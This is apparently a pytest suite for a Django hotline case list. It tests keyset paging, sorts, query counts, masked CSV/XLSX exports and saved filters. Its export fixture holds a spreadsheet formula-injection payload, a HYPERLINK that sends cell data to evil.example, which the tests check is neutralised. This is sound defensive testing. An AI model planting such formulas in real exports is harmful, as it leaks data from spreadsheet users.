"""The desk's case list: sorts, keyset pages, a fixed number of queries, exports and saved filters."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from html import unescape
from typing import Any

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from ecohotline.cases import services
from ecohotline.cases.models import Case, CaseStatus
from ecohotline.cases.selectors import CASE_SORTS, STATUS_SORT_ORDER, ListPosition, case_page, encode_cursor
from ecohotline.factories import force_status, make_case
from ecohotline.ui.models import SavedFilter

pytestmark = pytest.mark.django_db

LIST = reverse("ui:case-list")
NEXT_LINK = re.compile(r'<a class="page-link" rel="next" href="\?([^"]*)"')
START = timezone.make_aware(dt.datetime(2026, 5, 4, 9, 0))


def add_cases(org: Any, count: int, **fields: Any) -> list[Case]:
    return [make_case(street=org.street, received_at=START + dt.timedelta(hours=index), **fields)
            for index in range(count)]


@pytest.fixture
def spread(org: Any) -> list[Case]:
    """Eleven cases with ties in every sort key and a mix of statuses and deadlines."""
    cases = add_cases(org, 5)
    # Same received time for several cases: the primary key breaks the tie.
    cases += [make_case(street=org.street, received_at=START + dt.timedelta(hours=2)) for _ in range(3)]
    statuses = [CaseStatus.CLOSED, CaseStatus.IN_PROGRESS, CaseStatus.NEW, CaseStatus.RETURNED, CaseStatus.CLOSED,
                CaseStatus.REPLIED, CaseStatus.DISPATCHED, CaseStatus.IN_PROGRESS]
    due = START + dt.timedelta(days=3)
    for index, (case, status) in enumerate(zip(cases, statuses, strict=True)):
        pending = status not in (CaseStatus.CLOSED, CaseStatus.REPLIED)
        force_status(case, status, next_due_at=due + dt.timedelta(hours=index % 3) if pending else None)
    cases += add_cases(org, 3)  # new, with their own deadlines
    # Registered out of received order: sorts by the received time and by registration differ.
    cases += [make_case(street=org.street, received_at=START - dt.timedelta(days=1))]
    return [Case.objects.get(pk=case.pk) for case in cases]


def expected_order(cases: list[Case], sort: str) -> list[int]:
    def newest(case: Case) -> tuple[float, int]:
        return (-case.received_at.timestamp(), -case.pk)

    if sort == "-received":
        ordered = sorted(cases, key=newest)
    elif sort == "received":
        ordered = sorted(cases, key=lambda case: (case.received_at, case.pk))
    elif sort == "deadline":
        pending = sorted((c for c in cases if c.next_due_at), key=lambda c: (c.next_due_at, c.pk))
        ordered = pending + sorted((c for c in cases if not c.next_due_at), key=lambda c: -c.pk)
    else:
        ordered = sorted(cases, key=lambda case: (STATUS_SORT_ORDER.index(case.status), -case.pk))
    return [case.pk for case in ordered]


def page_pks(response: Any) -> list[int]:
    return [case.pk for case, _state in response.context["rows"]]


# --- sorts and keyset pages ------------------------------------------------------------------------------

@pytest.mark.parametrize("sort", list(CASE_SORTS))
@pytest.mark.parametrize("size", [1, 3, 4, 50])
def test_pages_walk_every_case_once_in_sort_order(org: Any, spread: list[Case], sort: str, size: int) -> None:
    seen: list[int] = []
    cursor = None
    starts = []
    for _ in range(len(spread) + 2):
        page = case_page(Case.objects.all(), sort=sort, cursor=cursor, size=size)
        starts.append(page.start)
        seen += [case.pk for case in page.cases]
        cursor = page.next_cursor
        if cursor is None:
            break
    assert seen == expected_order(spread, sort)
    assert starts == [1 + size * index for index in range(len(starts))]


@pytest.mark.parametrize("sort", list(CASE_SORTS))
def test_the_list_page_follows_its_next_links(client: Any, org: Any, spread: list[Case], monkeypatch: Any,
                                              sort: str) -> None:
    monkeypatch.setattr("ecohotline.ui.views.CASE_LIST_PAGE_SIZE", 4)
    client.force_login(org.dispatcher)
    response = client.get(LIST, {"sort": sort})
    seen = page_pks(response)
    while match := NEXT_LINK.search(response.content.decode()):
        query = unescape(match.group(1))
        assert f"sort={sort}" in query or sort == "-received"
        response = client.get(f"{LIST}?{query}")
        assert response.status_code == 200
        seen += page_pks(response)
    assert seen == expected_order(spread, sort)


def test_an_unknown_sort_is_newest_first(client: Any, org: Any, spread: list[Case]) -> None:
    client.force_login(org.dispatcher)
    response = client.get(LIST, {"sort": "complainant_phone"})
    assert page_pks(response) == expected_order(spread, "-received")


@pytest.mark.parametrize("cursor", ["garbage", "eyJzIjoiLXJlY2VpdmVkIn0:forged:signature", "", "%00"])
def test_a_bad_cursor_gives_the_first_page(client: Any, org: Any, spread: list[Case], cursor: str) -> None:
    client.force_login(org.dispatcher)
    response = client.get(LIST, {"after": cursor})
    assert response.status_code == 200
    assert page_pks(response) == expected_order(spread, "-received")


def test_a_cursor_of_another_sort_gives_the_first_page(client: Any, org: Any, spread: list[Case]) -> None:
    last = max(spread, key=lambda case: case.pk)
    cursor = encode_cursor("received", ListPosition(0, [last.received_at, last.pk], 50))
    client.force_login(org.dispatcher)
    response = client.get(LIST, {"sort": "-received", "after": cursor})
    assert page_pks(response) == expected_order(spread, "-received")


def test_the_filters_still_apply(client: Any, org: Any, spread: list[Case]) -> None:
    client.force_login(org.dispatcher)
    response = client.get(LIST, {"status": "in_progress", "sort": "received"})
    expected = [c.pk for c in sorted(spread, key=lambda c: (c.received_at, c.pk)) if c.status == "in_progress"]
    assert page_pks(response) == expected and len(expected) == 2


def test_a_handler_pages_through_their_unit_only(client: Any, org: Any, monkeypatch: Any) -> None:
    mine = add_cases(org, 5)
    for case in mine:
        services.dispatch_case(actor=org.dispatcher, case=case, unit=org.squad)
    for case in add_cases(org, 4):
        services.dispatch_case(actor=org.dispatcher, case=case, unit=org.other_squad)
    monkeypatch.setattr("ecohotline.ui.views.CASE_LIST_PAGE_SIZE", 2)
    client.force_login(org.handler)
    response = client.get(LIST)
    seen = page_pks(response)
    while match := NEXT_LINK.search(response.content.decode()):
        response = client.get(f"{LIST}?{unescape(match.group(1))}")
        seen += page_pks(response)
    assert seen == sorted((case.pk for case in mine), key=lambda pk: -pk)


def test_the_list_never_counts_the_table(client: Any, org: Any, spread: list[Case]) -> None:
    client.force_login(org.dispatcher)
    for sort in CASE_SORTS:
        with CaptureQueriesContext(connection) as queries:
            assert client.get(LIST, {"sort": sort}).status_code == 200
        # (The navigation's badges count open work and notifications on their own; the list counts nothing.)
        listed = [q["sql"] for q in queries.captured_queries if 'FROM "cases_case"' in q["sql"]]
        assert listed and not [sql for sql in listed if '"__count"' in sql]
        assert not [sql for sql in listed if "OFFSET" in sql.upper()]


@pytest.mark.parametrize("sort", list(CASE_SORTS))
def test_the_number_of_queries_does_not_grow_with_the_list(client: Any, org: Any, sort: str,
                                                          django_assert_max_num_queries: Any) -> None:
    add_cases(org, 5)
    client.force_login(org.dispatcher)
    with CaptureQueriesContext(connection) as small:
        client.get(LIST, {"sort": sort})
    # Enough cases for a full page and a next one, in every status.
    for index, case in enumerate(add_cases(org, 50)):
        force_status(case, STATUS_SORT_ORDER[index % len(STATUS_SORT_ORDER)])
    with django_assert_max_num_queries(len(small.captured_queries)):
        response = client.get(LIST, {"sort": sort})
    assert len(response.context["rows"]) == 50 and response.context["page"].next_cursor
    # A fixed ceiling whatever the list: the page's own reads plus one query per run of the sort.
    assert len(small.captured_queries) <= 8 + len(CASE_SORTS[sort].segments)


def test_the_page_says_which_cases_it_shows(client: Any, org: Any, spread: list[Case], monkeypatch: Any) -> None:
    monkeypatch.setattr("ecohotline.ui.views.CASE_LIST_PAGE_SIZE", 4)
    client.force_login(org.dispatcher)
    response = client.get(LIST + "?lang=en")
    text = response.content.decode()
    assert "Cases 1–4" in text and "more follow" in text
    query = unescape(NEXT_LINK.search(text).group(1))  # type: ignore[union-attr]
    text = client.get(f"{LIST}?{query}").content.decode()
    assert "Cases 5–8" in text and "First page" in text


# --- exports ---------------------------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'


def csv_rows(response: Any) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def xlsx_sheet(response: Any) -> Any:
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return workbook.worksheets[0]


@pytest.fixture
def exportable(org: Any) -> dict[str, Case]:
    led = make_case(street=org.street, complainant_name="张三丰", complainant_phone="13812345678",
                    title=HOSTILE, polluter="@SUM(1+1)", received_at=START)
    force_status(led, CaseStatus.IN_PROGRESS, leader=org.leader)
    other = make_case(street=org.other_street, complainant_name="李四", complainant_phone="13900001111",
                      title="-2+3", received_at=START + dt.timedelta(hours=1))
    return {"led": led, "other": other}


def test_csv_export_masks_the_complainant_row_by_row(client: Any, org: Any, exportable: dict[str, Case]) -> None:
    client.force_login(org.leader)  # sees every case, the complainant only of the cases they lead (包案)
    header, newer, older = csv_rows(client.get(reverse("ui:case-export-csv") + "?lang=en"))
    assert header[0] == "Order number" and "Complainant name" in header and "Complainant phone" in header
    name, phone = header.index("Complainant name"), header.index("Complainant phone")
    assert (older[name], older[phone]) == ("张三丰", "13812345678")
    assert (newer[name], newer[phone]) == ("李*", "139****1111")


def test_csv_export_masks_everything_for_an_analyst(client: Any, org: Any, exportable: dict[str, Case]) -> None:
    client.force_login(org.analyst)
    text = "\n".join(",".join(row) for row in csv_rows(client.get(reverse("ui:case-export-csv"))))
    assert "张三丰" not in text and "13812345678" not in text and "李四" not in text
    assert "张**" in text and "138****5678" in text


def test_csv_export_defuses_formulas(client: Any, org: Any, exportable: dict[str, Case]) -> None:
    client.force_login(org.dispatcher)
    header, newer, older = csv_rows(client.get(reverse("ui:case-export-csv") + "?lang=en"))
    assert older[header.index("Title")] == "'" + HOSTILE
    assert older[header.index("Polluter")] == "'@SUM(1+1)"
    assert newer[header.index("Title")] == "'-2+3"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in (newer, older) for cell in row)


def test_xlsx_export_writes_formulas_as_text(client: Any, org: Any, exportable: dict[str, Case]) -> None:
    client.force_login(org.leader)
    sheet = xlsx_sheet(client.get(reverse("ui:case-export-xlsx") + "?lang=en"))
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    title = rows[2][header.index("Title")]
    assert title.value == HOSTILE and title.data_type == "s"
    assert rows[1][header.index("Title")].value == "-2+3" and rows[1][header.index("Title")].data_type == "s"
    assert rows[2][header.index("Complainant name")].value == "张三丰"
    assert rows[1][header.index("Complainant phone")].value == "139****1111"


def test_export_headers_follow_the_language(client: Any, org: Any, exportable: dict[str, Case]) -> None:
    client.force_login(org.dispatcher)
    header = csv_rows(client.get(reverse("ui:case-export-csv")))[0]
    english = csv_rows(client.get(reverse("ui:case-export-csv") + "?lang=en"))[0]
    assert len(header) == len(english) and header != english and english[0] == "Order number"


def test_export_follows_the_filters_sort_and_visibility(client: Any, org: Any, spread: list[Case]) -> None:
    client.force_login(org.dispatcher)
    rows = csv_rows(client.get(reverse("ui:case-export-csv"), {"sort": "deadline", "after": "ignored"}))[1:]
    by_reference = {case.reference: case.pk for case in spread}
    assert [by_reference[row[0]] for row in rows] == expected_order(spread, "deadline")
    rows = csv_rows(client.get(reverse("ui:case-export-csv"), {"status": "closed"}))[1:]
    assert len(rows) == 2
    client.force_login(org.handler)  # nothing was dispatched to their unit
    assert csv_rows(client.get(reverse("ui:case-export-csv")))[1:] == []


def test_export_stops_at_the_limit_and_says_so(client: Any, org: Any, spread: list[Case], monkeypatch: Any) -> None:
    monkeypatch.setattr("ecohotline.ui.exports.EXPORT_LIMIT", 3)
    client.force_login(org.dispatcher)
    rows = csv_rows(client.get(reverse("ui:case-export-csv") + "?lang=en"))
    assert len(rows) == 1 + 3 + 1
    assert rows[-1] == ["Only the first 3 cases are exported. Narrow the filters to export the rest."]
    sheet = xlsx_sheet(client.get(reverse("ui:case-export-xlsx") + "?lang=en"))
    assert sheet.max_row == 5 and sheet.cell(5, 1).value.startswith("Only the first 3 cases")


@pytest.mark.parametrize("name", ["ui:case-export-csv", "ui:case-export-xlsx"])
def test_export_queries_do_not_grow_with_the_rows(client: Any, org: Any, name: str,
                                                  django_assert_max_num_queries: Any) -> None:
    def export() -> int:
        response = client.get(reverse(name), {"sort": "status"})
        return len(b"".join(response.streaming_content))

    for case in add_cases(org, 3):
        services.dispatch_case(actor=org.dispatcher, case=case, unit=org.squad)
    client.force_login(org.unit_head)
    with CaptureQueriesContext(connection) as small:
        export()
    for case in add_cases(org, 30):
        services.dispatch_case(actor=org.dispatcher, case=case, unit=org.squad)
    with django_assert_max_num_queries(len(small.captured_queries)):
        export()


def test_export_needs_a_login(client: Any) -> None:
    response = client.get(reverse("ui:case-export-csv"))
    assert response.status_code == 302 and response.url.startswith(reverse("login"))


# --- saved filters ---------------------------------------------------------------------------------------

def test_save_a_filter_then_find_it_on_the_list(client: Any, org: Any, spread: list[Case]) -> None:
    client.force_login(org.dispatcher)
    response = client.post(reverse("ui:saved-filter-save"), {
        "name": "在办 最早", "query": "status=in_progress&sort=received&after=xyz&evil=1"})
    assert response.status_code == 302 and response.url == f"{LIST}?status=in_progress&sort=received"
    saved = SavedFilter.objects.get(user=org.dispatcher)
    assert (saved.name, saved.query) == ("在办 最早", "status=in_progress&sort=received")
    text = client.get(LIST).content.decode()
    assert f'href="{LIST}?status=in_progress&amp;sort=received">在办 最早</a>' in text
    assert [c.status for c, _s in client.get(f"{LIST}?{saved.query}").context["rows"]] == ["in_progress"] * 2


def test_the_same_name_replaces_the_filter(client: Any, org: Any) -> None:
    client.force_login(org.dispatcher)
    client.post(reverse("ui:saved-filter-save"), {"name": "超期", "query": "overdue=true"})
    client.post(reverse("ui:saved-filter-save"), {"name": "超期", "query": "overdue=true&sort=deadline"})
    assert list(SavedFilter.objects.values_list("name", "query")) == [("超期", "overdue=true&sort=deadline")]


def test_a_filter_needs_a_name(client: Any, org: Any) -> None:
    client.force_login(org.dispatcher)
    response = client.post(reverse("ui:saved-filter-save"), {"name": "  ", "query": "overdue=true"})
    assert response.status_code == 302 and not SavedFilter.objects.exists()


def test_saved_filters_are_personal(client: Any, org: Any) -> None:
    mine = SavedFilter.objects.create(user=org.dispatcher, name="我的", query="status=new")
    theirs = SavedFilter.objects.create(user=org.handler, name="他的", query="status=closed")
    client.force_login(org.dispatcher)
    text = client.get(LIST).content.decode()
    assert "我的" in text and "他的" not in text
    assert client.post(reverse("ui:saved-filter-delete", args=[theirs.pk])).status_code == 404
    assert client.get(reverse("ui:saved-filter-delete", args=[mine.pk])).status_code == 405
    assert client.post(reverse("ui:saved-filter-delete", args=[mine.pk])).status_code == 302
    assert list(SavedFilter.objects.values_list("name", flat=True)) == ["他的"]


def test_the_list_offers_to_save_its_current_filter(client: Any, org: Any) -> None:
    client.force_login(org.dispatcher)
    text = client.get(LIST, {"status": "new", "sort": "deadline", "after": "x"}).content.decode()
    assert '<input type="hidden" name="query" value="status=new&amp;sort=deadline">' in text
